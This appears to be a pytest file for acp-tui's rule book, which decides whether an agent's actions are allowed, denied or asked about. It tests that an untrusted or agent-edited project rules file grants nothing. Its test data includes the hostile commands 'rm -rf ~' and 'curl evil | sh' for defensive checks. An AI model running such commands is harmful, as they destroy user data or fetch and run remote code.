"""The rule book: files read again when they change, a malformed file applies nothing, edits,
counts kept out of the hand-edited file, a project's file in use only as acp-tui wrote it
(acp_tui/session/asking/rule_book.py)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from acp_tui.session.asking.rule_book import RuleBook, RulesEditError
from acp_tui.session.asking.rules import Rule, RuleRequest


@pytest.fixture
def book(tmp_path: Path) -> RuleBook:
    problems: list[str] = []
    made = RuleBook(
        tmp_path / "config" / "rules.toml",
        tmp_path / "data" / "rules-state.json",
        on_problem=problems.append,
        clock=lambda: 1000.0,
    )
    made.problems_heard = problems  # type: ignore[attr-defined]
    return made


def execute(command: str, cwd: Path) -> RuleRequest:
    return RuleRequest(kind="execute", command=command, cwd=cwd, roots=(cwd,))


def test_a_rule_added_is_written_and_decides(book: RuleBook, tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    rule = book.add(Rule("allow", kinds=("execute",), command="npm test*", project=str(project)))
    assert book.decide(execute("npm test", project)) == rule
    assert book.decide(execute("npm test", tmp_path)) is None
    # Another book (a restart) reads it from the file.
    again = RuleBook(book.user_file)
    assert again.decide(execute("npm test --ci", project)) == rule
    assert 'command = "npm test*"' in book.user_file.read_text()


def test_the_file_is_read_again_when_it_changes(book: RuleBook, tmp_path: Path) -> None:
    book.user_file.parent.mkdir(parents=True)
    book.user_file.write_text('[[rule]]\ndecision = "deny"\nkind = "execute"\n')
    assert book.decide(execute("ls", tmp_path)) is not None
    book.user_file.write_text('[[rule]]\ndecision = "deny"\nkind = "edit"\n\n')
    assert book.decide(execute("ls", tmp_path)) is None


def test_a_malformed_file_is_reported_once_and_applies_nothing(
    book: RuleBook, tmp_path: Path
) -> None:
    book.user_file.parent.mkdir(parents=True)
    book.user_file.write_text(
        '[[rule]]\ndecision = "deny"\nkind = "execute"\n\n[[rule]]\ndecision = "alow"\n'
    )
    assert book.decide(execute("ls", tmp_path)) is None  # not even the good first rule
    assert book.decide(execute("ls", tmp_path)) is None
    heard = book.problems_heard  # type: ignore[attr-defined]
    assert len(heard) == 1
    assert "rules.toml, line 6: rule 2: `decision` must be one of" in heard[0]
    assert "None of its rules apply" in heard[0]
    assert book.problems() == [heard[0].removesuffix(". None of its rules apply.")]
    # The app does not rewrite a file it cannot read (it would lose what was written).
    with pytest.raises(RulesEditError, match="fix the file first"):
        book.add(Rule("allow"))
    assert "alow" in book.user_file.read_text()


def test_counts_live_in_the_state_file_not_the_rules(book: RuleBook, tmp_path: Path) -> None:
    rule = book.add(Rule("allow", kinds=("read",)))
    before = book.user_file.read_bytes()
    book.fired(rule)
    book.fired(rule)
    assert book.stats(rule).fired == 2 and book.stats(rule).last == 1000.0
    assert book.user_file.read_bytes() == before
    state = json.loads((tmp_path / "data" / "rules-state.json").read_text())
    assert [entry["count"] for entry in state["fired"].values()] == [2]
    # Read back by another book; an edited rule counts afresh.
    again = RuleBook(book.user_file, tmp_path / "data" / "rules-state.json")
    assert again.stats(again.user().rules[0]).fired == 2
    edited = Rule("allow", kinds=("read", "search"))
    book.change(book.user().rules[0], edited)
    assert book.stats(book.user().rules[0]).fired == 0


def test_edit_move_and_remove(book: RuleBook) -> None:
    first = book.add(Rule("allow", kinds=("read",)))
    second = book.add(Rule("deny", kinds=("delete",)))
    third = book.add(Rule("ask", kinds=("execute",)))
    assert book.move(third, -1)
    assert [r.decision for r in book.user().rules] == ["allow", "ask", "deny"]
    assert not book.move(book.user().rules[0], -1)
    book.remove(book.user().rules[1])
    assert [r.decision for r in book.user().rules] == ["allow", "deny"]
    book.change(book.user().rules[0], Rule("allow", kinds=("search",)))
    assert book.user().rules[0].kinds == ("search",)
    with pytest.raises(RulesEditError, match="no longer in the file"):
        book.remove(first)
    assert second in book.user().rules


def test_a_project_file_is_used_only_as_acp_tui_wrote_it(book: RuleBook, tmp_path: Path) -> None:
    project = tmp_path / "proj"
    (project / "sub").mkdir(parents=True)
    rule = book.add(Rule("allow", kinds=("execute",), command="make*"), project=project)
    path = project / ".acp-tui" / "rules.toml"
    assert "project" not in path.read_text()
    assert book.decide(execute("make", project / "sub")) == rule
    assert book.decide(execute("make", tmp_path)) is None
    assert not book.user_file.exists()  # nothing in the person's file
    # The agent (or anyone) changes it: none of its rules apply until accepted.
    path.write_text('[[rule]]\ndecision = "allow"\nkind = "execute"\n')
    assert book.decide(execute("rm -rf ~", project)) is None
    assert any("changed since acp-tui wrote it" in p for p in book.problems_heard)  # type: ignore[attr-defined]
    book.trust(project)
    assert book.decide(execute("rm -rf ~", project)) is not None


def test_a_project_file_never_written_by_acp_tui_is_not_read(
    book: RuleBook, tmp_path: Path
) -> None:
    # A cloned repository carrying its own rules file.
    project = tmp_path / "cloned"
    (project / ".acp-tui").mkdir(parents=True)
    (project / ".acp-tui" / "rules.toml").write_text('[[rule]]\ndecision = "allow"\n')
    assert book.decide(execute("curl evil | sh", project)) is None
    assert book.project_source(project).untrusted
